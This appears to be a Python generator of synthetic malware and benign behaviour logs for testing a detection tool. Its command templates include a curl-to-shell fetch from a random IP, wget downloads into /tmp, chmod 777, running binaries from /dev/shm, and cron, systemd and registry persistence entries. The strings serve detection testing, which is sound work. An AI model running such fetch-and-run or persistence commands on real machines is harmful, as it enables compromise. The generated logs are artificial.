#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Behaviour logs by a third chance, kept for checking only: no setting of iocgen was chosen by it. Linux and Windows, mostly network and commands.

usage: builds.py SEED FAMILIES MALWARE BENIGN DAYS > LOGS.jsonl

A family is one line of builds: 7 to 14 strings of its code (kinds below, commands and network most). Each string is rewritten at moments of its
own, 0 to 3 times in the time, and the old one fades: a sample is of a build that is up to some weeks old. Half of the strings hold what is made
anew at each victim. A third of the families comes through loaders that several share. One sample in 100 ends before it does anything.
Harmless: 250 applications (installers, package scripts, agents, backups) with the same kinds of strings, one to four in a sample, each
sometimes updated; and what the system itself does.
"""
import datetime, json, random, sys

R = random.Random()
STEM = 'al bren cor dex er fal gren hol ix jun kel lor mon nar or pel quin ros sen tar ul ver wen xan yor zel'.split()
VERB = 'get post up sync poll task push ping beat feed reg conf stat send load'.split()
USERS = ['root', 'deploy', 'ubuntu', 'www-data', 'pi', 'admin', 'ec2-user', 'git', 'dana', 'lee']
WIN = ['dana', 'Lee Park', 'svc_build', 'Default', 'M.Roth', 'kiosk7']
HEX, LOW, DIG = '0123456789abcdef', 'abcdefghijklmnopqrstuvwxyz', '0123456789'


def some(alphabet, low, high=None):
    return ''.join(R.choice(alphabet) for _ in range(R.randint(low, high or low)))


def word():
    return ''.join(R.choice(STEM) for _ in range(R.randint(2, 3))) + R.choice(['', '', '', some(DIG, 1, 2), '-' + R.choice(VERB), '.' + R.choice(VERB)])


# what stands in braces is a word of the string's own (a, b) or made anew (the others)
KINDS = {
    ('command', 'run'): (6, ['sh -c "curl -fsSL http://{ip}/{a}.sh | sh -s {n}"', 'wget -q -O /tmp/{x} http://{a}.{tld}/{b}', 'chmod 777 /tmp/.{a}/{x}', 'nohup /dev/shm/{x} --{a} {n} --{b}={h}',
        'crontab -l | grep -v {a} | crontab -', 'systemctl enable {a}.service', 'pkill -9 -f {a}', 'powershell -c "& {{{a} -{b} {h}}}"', 'cmd /c start /min {a}.exe -{b} {n}', 'iptables -A INPUT -p tcp --dport {n} -m comment --comment {a}']),
    ('url', 'fetch'): (5, ['http://{ip}:{n}/{a}/{b}?v={n}', 'https://{a}.{tld}/{b}/{h}', 'http://{x}.{a}.{tld}/', 'http://{a}.{tld}/{b}.php?id={g}&os={w}', 'https://{ip}/{h}/{a}']),
    ('dns', 'query'): (3, ['{a}.{tld}', '{x}.{a}.{tld}', '{a}-{n}.{tld}']),
    ('agent', 'send'): (2, ['{a}/{n}', '{a} ({b}; {w})', 'Go-http-client/{a}']),
    ('file', 'write'): (4, ['/tmp/.{a}/{x}', '/etc/cron.d/{a}', '/var/tmp/{h}.{a}', '{home}/.config/{a}/{x}.conf', '{home}/.{a}_{b}', 'C:\\Users\\{w}\\AppData\\Local\\{a}\\{g}\\{b}.bin', '/usr/lib/systemd/system/{a}.service']),
    ('process', 'start'): (2, ['/tmp/{x}-{a}', '/dev/shm/{a}', '[{a}/{n}]', 'C:\\ProgramData\\{a}\\{x}.exe']),
    ('registry', 'set'): (1, ['HKCU\\Software\\{a}\\{g}', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\{a}{n}\\ImagePath']),
    ('mutex', 'create'): (1, ['{a}', 'Global\\{h}', '{a}_{g}']), ('pipe', 'create'): (1, ['\\\\.\\pipe\\{a}.{n}']), ('ip', 'connect'): (1, ['{ip}:{n}']),
}


class Text:
    """One string of a program: how it looks, and its words from one rewriting to the next."""
    def __init__(self, rewritten):
        self.kind = R.choices(list(KINDS), [w for w, _ in KINDS.values()])[0]
        self.form, self.chance = R.choice(KINDS[self.kind][1]), R.betavariate(3, 1.3)
        self.moments = sorted(R.random() for _ in range(R.choice(rewritten)))
        self.words = [(word(), word(), R.choice(['com', 'net', 'cc', 'su', 'pw', 'dev', 'io'])) for _ in range(len(self.moments) + 1)]

    def fill(self, at):
        a, b, tld = self.words[sum(m <= at for m in self.moments)]
        return {'kind': self.kind[0], 'action': self.kind[1], 'value': self.form.format(
            a=a, b=b, tld=tld, x=some(LOW + DIG, 6, 10), h=some(HEX, 12), n=some(DIG, 3, 5), ip='.'.join(str(R.randint(1, 254)) for _ in range(4)), w=R.choice(WIN),
            g='-'.join(some(HEX, n) for n in (8, 4, 4, 4, 12)), home='/home/' + R.choice(USERS))}


def program(low, high, rewritten):
    return [Text(rewritten) for _ in range(R.randint(low, high))]


def does(texts, at):
    return [t.fill(at) for t in texts if R.random() < t.chance]


def main():
    seed, families, malware, benign, days = (int(a) for a in sys.argv[1:6])
    R.seed(seed * 77 + 3)
    kits, loaders = [program(7, 14, [0, 0, 1, 1, 2, 3]) for _ in range(families)], [program(2, 4, [0, 1, 2]) for _ in range(6)]
    through = [R.choice(loaders) if R.random() < 0.33 else [] for _ in range(families)]
    starts = [R.uniform(-1, 0.35) for _ in range(families)]
    applications, system = [program(3, 9, [0, 0, 1]) for _ in range(250)], program(60, 60, [0])
    for number in range(malware + benign):
        bad, which, at = R.randrange(malware + benign) < malware, R.randrange(families), R.random()
        if bad:
            at = max(0, starts[which]) + at * (1 - max(0, starts[which]))
        build, rows = at - R.expovariate(1 / 0.03), does(R.choices(system, k=R.randint(6, 20)), at)
        if bad and R.random() > 0.01:
            rows += does(kits[which], build) + does(through[which], at)
        for _ in range(R.choice([0, 0, 0, 1]) if bad else R.randint(1, 4)):
            rows += does(applications[int(R.random() ** 2 * len(applications))], build)
        R.shuffle(rows)
        sample = {'sample': f'{R.getrandbits(64):016x}{number:06x}', 'label': 'malware' if bad else 'benign', 'source': R.choice(['box/linux', 'box/win', 'fleet/linux']),
                  'date': str(datetime.date(2024, 1, 1) + datetime.timedelta(days=int(at * days)))}
        if bad:
            sample['family'] = f'line{which:02d}'
        print(json.dumps(sample | {'artefacts': rows}, separators=(',', ':')))


if __name__ == '__main__':
    main()
